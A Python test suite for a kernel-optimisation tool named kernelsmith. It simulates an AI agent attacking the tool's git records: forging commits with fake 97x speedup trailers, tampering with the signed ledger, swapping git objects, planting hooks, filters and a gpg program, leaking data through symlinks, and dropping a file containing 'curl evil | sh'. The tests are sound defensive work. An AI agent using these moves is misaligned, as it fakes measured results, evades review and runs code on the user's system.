"""The agent against kernelsmith's git: it forges commits with kernelsmith's trailers, edits the
ledger, swaps objects, plants hooks, filters and programs, writes huge files, stray files and
symlinks out of the workdir. What a user reviews (log, review, accept, revert, export) and what
kernelsmith commits must not change. Real git repositories in tmp dirs, the real CLI in a
subprocess; the agent's moves are plain git and file writes, as its `bash` tool would make them."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import zlib
from pathlib import Path

import git
import pytest

from conftest import TASK
from kernelsmith import workdir as wd
from kernelsmith.errors import BadInput
from kernelsmith.gitops import MAX_FILE_BYTES, TRAILER_SESSION, KernelRepo
from kernelsmith.session import ledger
from kernelsmith.task import TaskSource
from kernelsmith.tui import data

CLI = [sys.executable, "-m", "kernelsmith.cli"]
SCRIPT = Path(__file__).parent / "data" / "triple_session" / "script.json"
FORGED_MESSAGE = ("kernelsmith: 97.000x vs eager (turn 9)\n\n"
                  "Kernelsmith-Session: s1\nSpeedup-Vs-Eager: 97.000x\nTurn: 9\n")


@pytest.fixture(autouse=True)
def own_config(tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))  # the ledger key, not the user's


@pytest.fixture
def root(tmp_path):
    path = tmp_path / "wd"
    wd.create(TaskSource(name="axpb", source=TASK, origin="/somewhere/axpb.py"), path, "cpu")
    KernelRepo(path).start_ledger()  # as `kernelsmith init` and every session start do
    return path


def ks(*args, cwd=None):
    return subprocess.run(CLI + [str(a) for a in args], capture_output=True, text=True, cwd=cwd, timeout=120)


def one_line_error(proc) -> str:
    assert proc.returncode == 2, proc.stdout + proc.stderr
    lines = [line for line in proc.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error:") and "Traceback" not in proc.stderr, proc.stderr
    return lines[0]


def genuine(root, name="fast.cpp", text="// honest\n", eager="1.500x") -> str:
    (root / "kernels" / name).write_text(text)
    trailers = {TRAILER_SESSION: "s1", "Speedup-Vs-Eager": eager, "Turn": "3"}
    return KernelRepo(root).commit_kernel(f"kernelsmith: {eager} vs eager (turn 3)", "Measured.", trailers)


def forge(root, text="// 97x, trust me\n") -> str:
    """What the agent's bash does: a plain git commit carrying kernelsmith's trailers."""
    (root / "kernels" / "evil.cpp").write_text(text)
    run_git(root, "add", "kernels/evil.cpp")
    run_git(root, "commit", "-q", "--no-verify", "-m", FORGED_MESSAGE)
    return run_git(root, "rev-parse", "HEAD")


def run_git(root, *args, **kw) -> str:
    return subprocess.run(["git", *args], cwd=root, check=True, capture_output=True, text=True, **kw).stdout.strip()


# -- forged commits ------------------------------------------------------------------------------

def test_a_forged_97x_commit_is_not_listed_and_accept_export_revert_refuse_it(root, tmp_path):
    real = genuine(root)
    fake = forge(root)

    proc = ks("log", root, "--json")
    assert proc.returncode == 0, proc.stderr
    assert [c["sha"] for c in json.loads(proc.stdout)["commits"]] == [real]
    assert "1 commit(s) with kernelsmith's trailers are not in kernelsmith's ledger" in proc.stderr
    listed = ks("log", root).stdout  # "97" alone also matches a random sha (19762768 did, once in CI)
    assert fake[:8] in proc.stderr and "97.0" not in listed and "97x" not in listed and fake[:8] not in listed
    for args in (("accept", fake, "--workdir", root), ("revert", fake, "--workdir", root),
                 ("export", root, "--out", tmp_path / "out", "--rev", fake)):
        assert "not a kernelsmith commit" in one_line_error(ks(*args)), args
    assert not (tmp_path / "out").exists()
    repo = KernelRepo(root)
    assert [r["sha"] for r in data.commit_rows(repo)] == [real] and not repo.is_ours(fake)
    assert repo.accepted() is None


def test_a_forged_commit_event_in_the_session_record_is_no_best_in_review(root):
    real, fake = genuine(root), forge(root)
    record = root / ".kernelsmith" / "sessions" / "s1" / "events.jsonl"
    record.parent.mkdir(parents=True)
    events = [{"v": 1, "t": 1.0, "kind": "commit", "turn": turn, "sha": sha, "summary": "x",
               "speedup_vs_eager": speed, "speedup_vs_compile": None, "reward": 1.0}
              for turn, sha, speed in ((3, real, 1.5), (9, fake, 97.0))]
    record.write_text("".join(json.dumps(e) + "\n" for e in events))  # without a jail, bash can write it
    shown = data.load_session(record)
    assert shown.state.best["sha"] == real and [c["sha"] for c in shown.state.commits] == [real]
    assert [e.status for e in shown.entries if e.kind == "commit?"] == ["fail"]


def test_ledger_lines_written_by_the_agent_do_not_count(root, tmp_path):
    real = genuine(root)
    fake = forge(root)
    path = root / ".kernelsmith" / "ledger.jsonl"
    entry = json.loads(path.read_text().splitlines()[-1])  # the genuine commit's own entry
    forged_keys = {"own mac": {**entry, "sha": fake},  # a genuine line with its sha swapped
                   "guessed key": ledger.sign({**entry, "sha": fake}, os.urandom(32))}
    with path.open("a") as out:
        out.writelines(json.dumps(e) + "\n" for e in forged_keys.values())
        out.write("not json at all\n")
    repo = KernelRepo(root)
    assert [c["sha"] for c in repo.kernel_commits()] == [real] and not repo.is_kernel_commit(fake)
    assert any("not checked" in note for note in repo.ledger_notes())  # the unknown key is named

    path.unlink()  # deleting the ledger does not bring back trust in trailers
    assert KernelRepo(root).kernel_commits() == []
    assert "not a kernelsmith commit" in one_line_error(ks("accept", fake, "--workdir", root))


def test_a_workdir_from_before_ledgers_keeps_its_commits_and_then_trusts_only_new_ones(root, tmp_path):
    old = genuine(root)
    KernelRepo(root).accept(old)
    attempt = KernelRepo(root).snapshot_attempt("s1", 1)
    (root / ".kernelsmith" / "ledger.jsonl").unlink()  # as made by an earlier kernelsmith: no ledger ...
    shutil.rmtree(tmp_path / "config" / "kernelsmith" / "ledgers")  # ... and never a marker
    repo = KernelRepo(root)
    [listed] = repo.kernel_commits()
    assert listed["sha"] == old and listed["legacy"] and repo.accepted() == old
    assert [a["sha"] for a in repo.attempts()] == [attempt]
    assert json.loads(ks("log", root, "--json").stdout)["commits"][0]["legacy"] is True

    repo.save_user_changes("s2")  # the first session of this version adopts them, then the agent runs
    fake = forge(root)
    assert [c["sha"] for c in KernelRepo(root).kernel_commits()] == [old]
    assert KernelRepo(root).accepted() == old and not KernelRepo(root).is_kernel_commit(fake)


def test_swapped_objects_never_reach_an_export(root, tmp_path):
    from kernelsmith.export import export_kernel

    real = genuine(root, text="// the measured kernel\n")
    KernelRepo(root).accept(real)
    fake = forge(root, text="// not what was measured\n")
    run_git(root, "replace", "-f", real, fake)  # refs/replace/: git would now show the fake for the real sha

    done = export_kernel(root, tmp_path / "out")
    assert done["commit"] == real
    assert (Path(done["path"]) / "kernels" / "fast.cpp").read_text() == "// the measured kernel\n"
    assert not (Path(done["path"]) / "kernels" / "evil.cpp").exists()

    blob = run_git(root, "rev-parse", f"{real}:kernels/fast.cpp")
    loose = root / ".git" / "objects" / blob[:2] / blob[2:]
    loose.chmod(stat.S_IWUSR | stat.S_IRUSR)
    evil = b"// rewritten in .git/objects\n"
    loose.write_bytes(zlib.compress(b"blob %d\0" % len(evil) + evil))
    with pytest.raises(BadInput, match="does not match its hash"):
        export_kernel(root, tmp_path / "out2")
    assert not (tmp_path / "out2").exists()


# -- planted programs ----------------------------------------------------------------------------

SPY = "#!/bin/sh\necho \"$(basename \"$0\") $1\" >> {marker}\n"
FILTER = "#!/bin/sh\necho \"filter $1\" >> {marker}\necho FILTERED\n"
TEXTCONV = "#!/bin/sh\necho textconv >> {marker}\ncat \"$1\"\n"
HOOKS = ("pre-commit", "commit-msg", "post-commit", "post-checkout", "post-index-change",
         "reference-transaction", "pre-auto-gc", "post-rewrite")


def plant(root, tmp_path) -> Path:
    """Every way the agent (without a jail: .git/ is writable) can make git run its code."""
    marker, bin_dir, hooks_dir = tmp_path / "ran.txt", tmp_path / "bin", tmp_path / "hooks"
    for folder in (bin_dir, hooks_dir, root / ".git" / "hooks"):
        folder.mkdir(exist_ok=True)
    scripts = {bin_dir / "spy": SPY, bin_dir / "filter": FILTER, bin_dir / "textconv": TEXTCONV}
    scripts |= {folder / hook: SPY for hook in HOOKS for folder in (hooks_dir, root / ".git" / "hooks")}
    for path, text in scripts.items():
        path.write_text(text.format(marker=marker))
        path.chmod(0o755)
    config = {"core.hooksPath": hooks_dir, "core.fsmonitor": bin_dir / "spy",
              "filter.evil.clean": f"{bin_dir}/filter clean", "filter.evil.smudge": f"{bin_dir}/filter smudge",
              "filter.evil.required": "true",
              "diff.evil.textconv": bin_dir / "textconv", "diff.external": bin_dir / "spy",
              "gpg.program": bin_dir / "spy", "commit.gpgSign": "true", "tag.gpgSign": "true",
              "log.showSignature": "true"}
    for key, value in config.items():
        run_git(root, "config", key, str(value))
    for attributes in (root / "kernels" / ".gitattributes", root / ".git" / "info" / "attributes"):
        attributes.parent.mkdir(exist_ok=True)
        attributes.write_text("* filter=evil diff=evil\n")
    return marker


def test_planted_hooks_fsmonitor_filters_and_programs_never_run(root, tmp_path):
    marker = plant(root, tmp_path)
    repo = KernelRepo(root)
    (root / "kernels" / "mine.cpp").write_text("// saved as is\n")
    saved = repo.save_user_changes("s2")
    (root / "kernels" / "fast.cpp").write_text("// raw bytes, no filter\n")
    attempt = repo.snapshot_attempt("s2", 1)
    assert repo.has_kernel_changes()
    sha = repo.commit_kernel("kernelsmith: 1.2x", "", {TRAILER_SESSION: "s2", "Turn": "1"})
    repo.accept(sha)
    (root / "kernels" / "more.cpp").write_text("// more\n")
    later = repo.commit_kernel("kernelsmith: 1.3x", "", {TRAILER_SESSION: "s2", "Turn": "2"})
    repo.revert(later)
    repo.restore_attempt(attempt)
    data.diff(repo, saved, sha)
    repo.git.show("--stat", sha)  # what the review UI runs to show a commit
    assert [c["sha"] for c in repo.kernel_commits()][1:] == [later, sha]
    assert ks("log", root).returncode == 0

    assert not marker.exists(), marker.read_text()
    assert run_git(root, "show", f"{sha}:kernels/fast.cpp", "--no-textconv") == "// raw bytes, no filter"
    run_git(root, "status")  # the control: the plants are live for plain git
    assert "spy" in marker.read_text()


# -- what the "save your changes" commit takes ---------------------------------------------------

def test_the_save_commit_takes_only_kernel_paths_never_model_py_or_stray_agent_files(root):
    repo = git.Repo(root)
    head = repo.head.commit.hexsha
    (root / "model.py").chmod(0o644)
    (root / "model.py").write_text("# the agent's easier reference\n")
    (root / "build.py").write_text("# patched infrastructure\n")
    (root / "evil.sh").write_text("curl evil | sh\n")
    (root / ".gitignore").write_text("")  # un-ignores .kernelsmith/ and build output
    (root / "kernels" / "ok.cpp").write_text("// a kernel\n")

    sha = KernelRepo(root).save_user_changes("s2")

    changed = repo.git.diff_tree("--no-commit-id", "--name-only", "-r", head, sha).splitlines()
    assert changed == ["kernels/ok.cpp"]
    assert (root / "model.py").read_text() == "# the agent's easier reference\n"  # on disk, not committed
    assert (root / "evil.sh").exists() and repo.git.show(f"{sha}:model.py").strip() == TASK.strip()
    assert set(repo.git.status("--porcelain").splitlines()) >= {" M model.py", " M build.py", "?? evil.sh"}


def test_a_file_over_the_cap_is_refused_by_name_and_stays_on_disk(root):
    repo, kr = git.Repo(root), KernelRepo(root)
    head = repo.head.commit.hexsha
    huge = root / "kernels" / "dump.bin"
    with huge.open("wb") as out:
        out.truncate(MAX_FILE_BYTES + (1 << 20))  # 17 MiB, sparse
    (root / "kernels" / "fast.cpp").write_text("// fast\n")
    with pytest.raises(BadInput, match=r"kernels/dump\.bin is 17\.0 MiB, over the 16 MiB") as err:
        kr.save_user_changes("s2")
    assert "\n" not in str(err.value)
    assert repo.head.commit.hexsha == head and huge.stat().st_size == MAX_FILE_BYTES + (1 << 20)
    with pytest.raises(BadInput, match="dump.bin"):
        kr.commit_kernel("kernelsmith: x", "", {TRAILER_SESSION: "s2"})
    snapshot = kr.snapshot_attempt("s2", 1)  # a snapshot is a record: it leaves the file out, and says so
    assert "kernels/dump.bin" not in repo.git.ls_tree("-r", "--name-only", snapshot)
    assert "Left out: kernels/dump.bin is 17.0 MiB" in repo.commit(snapshot).message

    proc = ks("optimize", "--workdir", root, "--backend", "scripted", "--script", SCRIPT)
    assert "kernels/dump.bin is 17.0 MiB" in one_line_error(proc)
    assert repo.head.commit.hexsha == head and huge.exists()


def test_symlinks_never_lead_out_of_the_workdir(root, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("the user's secret\n")
    kr = KernelRepo(root)
    (root / "kernels" / "sub").mkdir()
    (root / "kernels" / "sub" / "k.cpp").write_text("// in a real folder\n")
    snapshot = kr.snapshot_attempt("s2", 1)
    shutil.rmtree(root / "kernels" / "sub")
    (root / "kernels" / "sub").symlink_to(outside)  # the agent swaps the folder for a way out
    (root / "kernels" / "leak.txt").symlink_to(outside / "secret.txt")

    sha = kr.snapshot_attempt("s2", 2)
    tree = git.Repo(root).git.ls_tree("-r", sha, "kernels")
    assert git.Repo(root).git.show(f"{sha}:kernels/leak.txt") == str(outside / "secret.txt")  # the link, not the secret
    assert "120000" in tree and "kernels/sub/secret.txt" not in tree

    kr.restore_attempt(snapshot)
    assert (root / "kernels" / "sub" / "k.cpp").read_text() == "// in a real folder\n"
    assert not (root / "kernels" / "sub").is_symlink() and sorted(os.listdir(outside)) == ["secret.txt"]


def test_a_hook_the_unjailed_agent_plants_during_a_session_is_named_at_its_end(root, tmp_path):
    hook = root / ".git" / "hooks" / "pre-commit"
    plant_it = f"printf '#!/bin/sh\\necho gotcha\\n' > {hook} && chmod +x {hook}"
    script = tmp_path / "s.json"
    turns = [{"text": "plant", "tool_calls": [{"name": "bash", "arguments": {"command": plant_it}}]},
             {"text": "done", "tool_calls": [{"name": "finish", "arguments": {"summary": "x"}}]}]
    script.write_text(json.dumps(turns))
    env = {**os.environ, "KERNELSMITH_JAIL": "none"}  # the reduced guarantee: bash can write .git/
    proc = subprocess.run(CLI + ["optimize", "--workdir", str(root), "--backend", "scripted", "--script", str(script),
                                 "--json"], capture_output=True, text=True, timeout=300, env=env)
    assert hook.exists(), proc.stdout + proc.stderr
    assert "warning: .git/hooks/pre-commit changed during the session" in proc.stderr
    end = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")][-1]
    assert end["kind"] == "session_end" and end["summary"]["git_changed"] == [".git/hooks/pre-commit"]


def test_a_gitignore_the_agent_writes_in_kernels_hides_no_source_from_the_kernel_commit(root):
    """The agent's kernels/.gitignore names the sources it built: the commit still holds every file
    the build read, so the committed kernel is the one that was measured."""
    repo = git.Repo(root)
    (root / "kernels" / ".gitignore").write_text("*.cu\n*.cuh\nhidden/\n")
    (root / "kernels" / "fast.cu").write_text("// the measured kernel\n")
    (root / "kernels" / "tile.cuh").write_text("// its header\n")
    (root / "kernels" / "hidden").mkdir()
    (root / "kernels" / "hidden" / "part.cpp").write_text("// more of it\n")
    (root / ".kernelsmith" / "build").mkdir(parents=True, exist_ok=True)
    (root / ".kernelsmith" / "build" / "out.o").write_bytes(b"\0")  # still ignored: the top .gitignore says so

    sha = genuine(root, "fast.cpp")

    files = set(repo.git.ls_tree("-r", "--name-only", sha).splitlines())
    assert {"kernels/fast.cu", "kernels/tile.cuh", "kernels/hidden/part.cpp", "kernels/.gitignore"} <= files
    assert not any(f.startswith(".kernelsmith/") for f in files)


def test_a_genuine_entry_copied_from_another_tasks_workdir_does_not_count(root, tmp_path):
    """The agent fetches a real kernel commit of another task's workdir and copies its signed ledger
    line: the entry names that task, so here it is not a kernel commit."""
    other = tmp_path / "other"
    wd.create(TaskSource(name="scale", source=TASK.replace("x * 2.0", "x * 3.0"), origin="/x/scale.py"), other, "cpu")
    KernelRepo(other).start_ledger()
    theirs = genuine(other, eager="97.000x")
    mine = genuine(root)
    run_git(root, "fetch", "-q", str(other), theirs)
    run_git(root, "reset", "-q", "--hard", theirs)  # their commit, checked out here
    entry = (other / ".kernelsmith" / "ledger.jsonl").read_text().splitlines()[-1]
    with (root / ".kernelsmith" / "ledger.jsonl").open("a") as out:
        out.write(entry + "\n")

    repo = KernelRepo(root)
    assert not repo.is_kernel_commit(theirs)
    assert theirs not in [c["sha"] for c in repo.kernel_commits()]
    assert KernelRepo(other).is_kernel_commit(theirs) and mine != theirs


def test_sessions_starting_at_once_in_one_process_share_one_ledger_key(tmp_path, monkeypatch):
    """Bench workers are threads of one process: their first ledger writes race to make the key.
    Every one gets the same key, and none fails (each wrote its own temp file before linking)."""
    import threading

    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "fresh-config"))
    start, keys, errors = threading.Barrier(8), [], []

    def make() -> None:
        start.wait()
        try:
            keys.append(ledger.own_key())
        except Exception as err:  # noqa: BLE001
            errors.append(str(err))

    threads = [threading.Thread(target=make) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == [] and len(keys) == 8 and len(set(keys)) == 1
    assert [p.name for p in (tmp_path / "fresh-config" / "kernelsmith").iterdir()] == ["ledger.key"]
